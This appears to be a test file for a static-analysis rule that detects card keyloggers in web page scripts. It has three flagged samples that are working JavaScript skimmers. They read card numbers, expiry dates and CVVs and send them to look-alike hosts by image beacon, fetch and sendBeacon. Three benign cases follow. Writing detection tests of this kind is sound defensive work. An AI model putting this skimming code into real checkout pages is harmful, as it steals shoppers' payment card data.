// Tests for card-keylogger: typed input reaching an unknown or look-alike host in a script that
// also selects card fields. The finding is reported on the sink. Sections are separate.

// Key listener on the card number field, image beacon on blur.
var typed = '';
var pan = document.getElementById('cc_number');
pan.addEventListener('keyup', function (e) { typed += e.key; });
pan.addEventListener('blur', function (e) {
  // ruleid: card-keylogger
  new Image().src = 'https://cdn-analytics-metrics.top/k.gif?v=' + btoa(e.target.value + '|' + typed);
});

// ---
// Document-wide input logger that also reads the CVV, fetch to a look-alike of Stripe.
var cvv = document.querySelector('[autocomplete="cc-csc"]');
document.addEventListener('input', function (e) {
  // ruleid: card-keylogger
  fetch('https://js-stripe.top/v3/m', { method: 'POST', mode: 'no-cors',
    body: JSON.stringify({ f: e.target.name, v: e.target.value, c: cvv.value }) });
});

// ---
// jQuery change handler passing `this.value` to a helper, sendBeacon to an unknown host.
function out(v) {
  // ruleid: card-keylogger
  navigator.sendBeacon('https://secure-paygate.xyz/c', v);
}
jQuery('#cc_exp, #cc_cvv').on('change', function () { out(this.name + '=' + this.value); });

// ---
// A search box talking to a third-party search API: typed input to an unknown host, but the
// script never selects a card field.
document.getElementById('q').addEventListener('input', function (e) {
  // ok: card-keylogger
  fetch('https://latency-dsn.algolia.net/1/indexes/products/query', { method: 'POST',
    body: JSON.stringify({ params: 'query=' + encodeURIComponent(e.target.value) }) });
});

// ---
// A card formatter that validates the number with the site's own BIN endpoint.
var num = document.getElementById('card-number');
num.addEventListener('input', function (e) {
  var digits = e.target.value.replace(/\D/g, '');
  // ok: card-keylogger
  if (digits.length === 6) { fetch('/checkout/bin-lookup?bin=' + digits); }
});

// ---
// Card field read plus Google Maps address autocomplete (a well-known host, not untrusted).
var holder = document.getElementById('cardholder-name');
document.getElementById('street').addEventListener('keyup', function (e) {
  // ok: card-keylogger
  fetch('https://maps.googleapis.com/maps/api/place/autocomplete/json?input=' + encodeURIComponent(e.target.value));
});
